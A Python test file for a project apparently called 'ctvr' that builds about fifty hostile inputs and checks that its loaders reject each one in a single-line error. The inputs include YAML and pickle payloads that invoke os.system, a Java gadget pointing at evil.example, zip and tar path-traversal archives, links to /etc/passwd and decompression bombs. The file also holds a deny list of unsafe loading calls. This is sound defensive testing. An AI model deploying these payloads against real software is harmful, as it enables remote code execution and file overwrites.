"""YAML and archives in place of a manifest, split, table or weights give one line each; none is unpacked or run.

Our code never loads YAML unsafely and never unpacks an archive (the last test checks it). A user may receive such files
from a colleague or a web page in place of the expected ones.
"""

import ast
import bz2
import gzip
import io
import lzma
import os
import pickle
import tarfile
import time
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest

from ctvr.methods.backbone.load import load_backbone
from ctvr.orchestrator.errors import ConfigError
from ctvr.orchestrator.importers.command import import_stream
from ctvr.orchestrator.streams.load import load_stream

REPOSITORY = Path(__file__).resolve().parents[2]


class Call:
    """Object whose pickle is a call of `function(*arguments)`."""

    def __init__(self, function: object, *arguments: object) -> None:
        self.parts = (function, arguments)

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return self.parts


def yaml_files(canary: Path) -> dict[str, bytes]:
    touch = f"touch {canary}"
    laughs = "\n".join(
        ["a0: &a0 [x,x,x,x,x,x,x,x,x]"] + [f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 10)]
    )
    texts = {
        "apply": f"!!python/object/apply:os.system ['{touch}']",
        "apply in a task": f"tasks:\n - name: !!python/object/apply:os.system ['{touch}']",
        "apply with kwds": f"!!python/object/apply:subprocess.check_call\nargs: [[touch, '{canary}']]",
        "new": f"!!python/object/new:os.system ['{touch}']",
        "new with state": "!!python/object/new:type\nargs: ['x', !!python/tuple [], {extend: !!python/name:exec }]\n"
        f"listitems: \"__import__('os').system('{touch}')\"",
        "name": "!!python/name:os.system",
        "module": "!!python/module:this",
        "tuple": "!!python/tuple [1, 2]",
        "ruby": f"--- !ruby/object:Gem::Installer\ni: {touch}",
        "java": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://evil.example/']]]]",
        "billion laughs": laughs,
        "cycle": "a: &a\n  b: *a",
        "merge": "a: &a {x: 1}\nb: {<<: *a, <<: *a}",
        "two documents": "format: 1\n---\nformat: 2",
        "tab": "format:\t1\n\tname: x",
        "sexagesimal": "time: 190:20:30",
        "norway": "tasks: [NO, yes, off]",
        "a manifest": "format: 1\nname: x\nprotocol: ctvr\ntasks: []",
        "directive": "%YAML 1.9\n---\nformat: 1",
        "a bare word": "tasks",
    }
    return {f"yaml, {name}": text.encode() for name, text in texts.items()}


def zipped(*members: tuple[str, bytes], link: str = "", method: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", method) as archive:
        warnings.filterwarnings("ignore", "Duplicate name")
        for name, content in members:
            archive.writestr(name, content)
        if link:
            info = zipfile.ZipInfo("link")
            info.external_attr = 0o120777 << 16
            archive.writestr(info, link)
    return out.getvalue()


def tarred(kind: bytes = tarfile.REGTYPE, name: str = "a.json", target: str = "", content: bytes = b"{}") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.type, info.linkname = kind, target
        info.size = len(content) if kind == tarfile.REGTYPE else 0
        archive.addfile(info, io.BytesIO(content) if info.size else None)
    return out.getvalue()


def arrays(value: np.ndarray) -> bytes:
    out = io.BytesIO()
    np.save(out, value, allow_pickle=True)
    return out.getvalue()


def archives(canary: Path) -> dict[str, bytes]:
    outside, zeros = "../" * 12 + str(canary).lstrip("/"), bytes(8 << 20)
    gadget = np.empty(1, object)
    gadget[0] = Call(os.system, f"touch {canary}")
    made = {
        "zip": zipped(("a.json", b"{}")),
        "zip slip": zipped((outside, b"x")),
        "zip, absolute": zipped((str(canary), b"x")),
        "zip, backslashes": zipped((outside.replace("/", "\\"), b"x")),
        "zip, link": zipped(link=str(canary.parent)),
        "zip, link and file": zipped(("link/canary", b"x"), link=str(canary.parent)),
        "zip bomb": zipped(("a.json", zeros), method=zipfile.ZIP_DEFLATED),
        "zip in zip": zipped(("a.zip", zipped((outside, b"x")))),
        "zip, one name twice": zipped(("a.json", b"{}"), ("a.json", b"[]")),
        "zip, empty": zipped(),
        "zip, cut": zipped(("a.json", b"{}" * 100))[:80],
        "zip behind text": b'{"format": 1}\n' + zipped((outside, b"x")),
        "zip, pickle of torch": zipped(("archive/data.pkl", pickle.dumps(Call(os.system, f"touch {canary}")))),
        "tar": tarred(),
        "tar slip": tarred(name=outside),
        "tar, absolute": tarred(name=str(canary)),
        "tar, symbolic link": tarred(tarfile.SYMTYPE, "link", str(canary.parent)),
        "tar, hard link": tarred(tarfile.LNKTYPE, "link", "/etc/passwd"),
        "tar, device": tarred(tarfile.CHRTYPE, "device"),
        "tar, fifo": tarred(tarfile.FIFOTYPE, "fifo"),
        "tar, long name": tarred(name="a/" * 200 + "a"),
        "tar.gz slip": gzip.compress(tarred(name=outside)),
        "tar.gz bomb": gzip.compress(tarred(content=zeros)),
        "tar.xz slip": lzma.compress(tarred(name=outside)),
        "gz": gzip.compress(b'{"format": 1}'),
        "bz2": bz2.compress(b'{"format": 1}'),
        "npy of objects": arrays(gadget),
        "npz of objects": zipped(("a.npy", arrays(gadget))),
        "pickle": pickle.dumps(Call(os.system, f"touch {canary}")),
        "pickle behind a line": b"video,caption,category,split,task\n"
        + pickle.dumps(Call(os.system, f"touch {canary}")),
    }
    return made


CORPUS = [*yaml_files(Path("x")), *archives(Path("/x"))]


def test_the_corpus_has_fifty_files():
    assert len(CORPUS) == 50


def entrances(folder: Path) -> dict[str, tuple[str, Callable[[Path], object]]]:
    """An entry point for a file: its name and its reader."""
    videos = folder / "videos"
    msrvtt = {"annotations": str(folder / "none.json"), "captions": str(folder / "none.csv")}
    return {
        "manifest": ("stream.json", lambda file: load_stream(file, folder)),
        "named manifest": ("stream.yaml", lambda file: load_stream(str(file), folder)),
        "table": ("table.csv", lambda file: import_stream("csv", {"table": str(file)}, videos, folder)),
        "split": ("split.pkl", lambda file: import_stream("msrvtt", {"split": str(file), **msrvtt}, videos, folder)),
        "weights": ("weights.pt", lambda file: load_backbone("tiny-clip", str(file))),
        "safe weights": ("weights.safetensors", lambda file: load_backbone("tiny-clip", str(file))),
    }


@pytest.mark.parametrize("name", CORPUS)
def test_every_command_refuses_a_wrong_file_in_one_line(tmp_path, name, monkeypatch):
    canary = tmp_path / "canary"
    content = {**yaml_files(canary), **archives(canary)}[name]
    folder = tmp_path / "in"
    (folder / "videos").mkdir(parents=True)
    monkeypatch.chdir(folder)
    for file_name, _ in entrances(folder).values():
        (folder / file_name).write_bytes(content)
    before = sorted(tmp_path.rglob("*"))
    for entrance, (file_name, read) in entrances(folder).items():
        started = time.monotonic()
        with pytest.raises((ConfigError, ValueError)) as caught:
            read(folder / file_name)
        message = str(caught.value)
        assert "\n" not in message, entrance
        assert file_name in message, entrance
        assert len(message) < 600, entrance
        assert time.monotonic() - started < 60, entrance  # no hang; how long is the machine's affair
    assert sorted(tmp_path.rglob("*")) == before


# Calls that run or unpack a file, and their allowed callers: published pickles are read as tensors only, in a child
FORBIDDEN = {
    *("pickle.load", "pickle.loads", "pickle.Unpickler", "cloudpickle.load", "cloudpickle.loads", "dill.load"),
    *("marshal.load", "marshal.loads", "shelve.open", "joblib.load", "torch.load", "torch.jit.load", "torch.hub.load"),
    *("yaml.load", "yaml.unsafe_load", "yaml.full_load", "tarfile.open", "zipfile.ZipFile", "shutil.unpack_archive"),
    *("eval", "exec", "compile", "os.system", "os.popen", "pandas.read_pickle", "pd.read_pickle"),
}
ALLOWED = {
    ("methods/backbone/inert.py", "torch.load"),  # weights_only, after the digest, in a child; of old files alone
    ("methods/backbone/inert.py", "zipfile.ZipFile"),  # members are read one by one, in that child
    ("orchestrator/bundles/bundle.py", "zipfile.ZipFile"),  # three named members, each up to a size, none is unpacked
    ("orchestrator/data/array_files.py", "tarfile.open"),  # members are read one by one, none is unpacked
    ("orchestrator/data/array_files.py", "zipfile.ZipFile"),  # the same, of an .npz
    ("orchestrator/data/arrays.py", "tarfile.open"),  # to write a shard
    ("orchestrator/data/arrays.py", "zipfile.ZipFile"),  # to write an .npz
    ("tools/release_check.py", "tarfile.open"),  # names of the files that this tool has just built
    ("tools/release_check.py", "zipfile.ZipFile"),  # the same
    ("tools/real_pairs.py", "zipfile.ZipFile"),  # the parts of an installed package, in memory
    ("orchestrator/data/torch_arrays.py", "zipfile.ZipFile"),  # members are read one by one, none is unpacked
    ("tools/real_vectors.py", "zipfile.ZipFile"),  # two members of an installed package, in memory
    ("tools/bench/gpu.py", "torch.load"),  # weights_only, what our own child has just written
    (
        "orchestrator/on_ray/callbacks.py",
        "cloudpickle.loads",
    ),  # the error of a trial that this process has just written
}


def dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Attribute):
        return f"{dotted(node.value)}.{node.attr}"
    return node.id if isinstance(node, ast.Name) else ""


@pytest.mark.slow
def test_sources_call_nothing_that_runs_files():
    found, seen = set(), 0
    for package in ("ctvr", "orchestrator", "methods", "search_spaces", "tools"):
        for file in sorted((REPOSITORY / package).rglob("*.py")):
            seen += 1
            for call in (node for node in ast.walk(ast.parse(file.read_text())) if isinstance(node, ast.Call)):
                name, options = dotted(call.func), {word.arg: ast.unparse(word.value) for word in call.keywords}
                where = str(file.relative_to(REPOSITORY))
                assert options.get("allow_pickle", "False") == "False", where
                assert options.get("shell", "False") == "False", where
                assert name != "torch.load" or options.get("weights_only") == "True", where
                if name in FORBIDDEN:
                    found.add((where, name))
    assert seen > 100
    assert found <= ALLOWED
